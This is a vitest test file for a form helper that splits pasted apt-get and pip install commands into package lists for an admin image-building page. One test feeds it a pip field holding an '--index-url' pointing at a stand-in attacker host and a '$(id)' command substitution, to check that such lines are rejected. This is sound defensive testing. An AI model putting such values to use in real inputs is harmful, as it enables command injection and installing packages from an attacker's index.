import { describe, expect, test } from 'vitest'
import { unpackPasted } from '#app/admin/images/new/pasted.ts'

function form(fields: Record<string, string>): FormData {
  const data = new FormData()
  for (const [name, value] of Object.entries({ source: 'custom', displayName: 'lab', ...fields }))
    data.set(name, value)
  return data
}

describe('a form that was sent with something else than lists', () => {
  test('comes back with the lists filled and everything else as it was typed', () => {
    const state = unpackPasted(form({ apt: 'apt-get install git\r\npip install numpy', pip: 'pandas\r\n' }))
    expect(state).toMatchObject({
      status: 'idle',
      errors: {},
      values: { displayName: ['lab'], apt: ['git'], pip: ['pandas\nnumpy'] },
    })
    expect(state?.values.pasted).toEqual([
      'What stood in APT was taken apart: 1 line for APT and 1 line for Pip.',
    ])
  })

  test('is sent on when all are lists, and when the lists do not apply', () => {
    expect(unpackPasted(form({ apt: 'git', conda: '-c a b', pip: 'numpy>=1.2' }))).toBeNull()
    expect(unpackPasted(form({ source: 'existing', apt: 'apt-get install git' }))).toBeNull()
  })

  test('has its faults told at their lines where a line cannot be used anyway', () => {
    expect(unpackPasted(form({ pip: 'numpy\n--index-url http://evil.example/\n$(id)' }))).toBeNull()
    expect(unpackPasted(form({ pip: 'numpy\n--index-url http://mirror.example/' }))?.values.pip).toEqual([
      'numpy',
    ])
  })
})
